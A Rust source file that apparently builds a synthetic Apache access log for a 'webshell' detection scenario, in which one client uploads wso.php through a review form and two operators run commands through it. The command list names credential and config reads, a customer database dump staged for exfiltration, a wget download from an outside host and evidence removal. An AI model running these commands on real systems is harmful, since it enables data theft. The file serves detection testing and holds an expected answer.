//! An upload that was no picture.

use super::{File, Scenario};
use crate::traffic::clock::{HOUR, MINUTE, SECOND, Zone};
use crate::traffic::noise::strays;
use crate::traffic::robots::robots;
use crate::traffic::shop::Shop;
use crate::traffic::story::{Answer, Story, Who};
use crate::traffic::visitors::{visits, visits_for};
use crate::traffic::writers::{Server, encode};

pub const SCENARIO: Scenario = Scenario {
    name: "webshell",
    about: "\
A client uploaded a PHP file through the picture form of the review page and ran commands with it for
twenty minutes, answered with 200 and growing sizes; a second address used it the same night. The report
must say `webshell`, with the upload, the script's path and both operators.",
    args: &[],
    build,
};

const SHELL: &str = "/uploads/reviews/wso.php";
const OPERATOR: Who = Who {
    client: "203.0.113.118",
    agent: "Mozilla/5.0 (X11; Linux x86_64; rv:91.0) Gecko/20100101 Firefox/91.0",
};
const HEIR: Who = Who {
    client: "198.51.100.7",
    agent: "curl/7.74.0",
};
const COMMANDS: [(&str, u64); 14] = [
    ("id", 54),
    ("uname -a", 138),
    ("pwd", 31),
    ("ls -la /srv/shop", 2_140),
    ("cat /srv/shop/config.php", 1_870),
    ("cat /etc/passwd", 1_630),
    ("whoami", 9),
    ("ps aux", 14_800),
    ("netstat -an", 6_120),
    ("find / -perm -4000 -type f", 3_300),
    ("mysqldump shop customers > /tmp/c.sql", 0),
    ("tar czf /srv/shop/uploads/c.tgz /tmp/c.sql", 42),
    ("wget http://files.example/k -O /tmp/k", 190),
    ("rm /tmp/c.sql", 0),
];

fn build() -> Vec<File> {
    let zone = Zone(0);
    let mut story = Story::new(0x3EB5_4E11, Shop::scripts(), Server::Apache, zone);
    let first = zone.at((2022, 1, 29), 20, 0, 0);
    let last = first + 4 * HOUR;
    visits(&mut story, first, last, visits_for(5.0, 21));
    robots(&mut story, first, last, 2 * MINUTE);
    strays(&mut story, first, last, 1.0);
    let began = first + 55 * MINUTE;
    let form = story.shop.url("/review.php?no=41");
    story.get(
        began,
        OPERATOR,
        "/review.php?no=41",
        Answer(200, 11_240, 70),
    );
    story.ask(
        began + 40 * SECOND,
        OPERATOR,
        "POST",
        "/review.php?no=41",
        &form,
        Answer(302, 0, 90),
    );
    run(&mut story, OPERATOR, began + 65 * SECOND, 80 * SECOND);
    run(&mut story, HEIR, began + 100 * MINUTE, 9 * SECOND);
    vec![File::plain("access.log", story.access_log())]
}

fn run(story: &mut Story, who: Who, start: i64, pace: i64) {
    let mut at = start;
    story.get(at, who, SHELL, Answer(200, 412, 15));
    for (command, bytes) in COMMANDS {
        at += pace / 2 + story.rng.between(0, pace);
        let target = format!("{SHELL}?cmd={}", encode(command));
        story.get(at, who, &target, Answer(200, 380 + bytes, 60));
    }
}
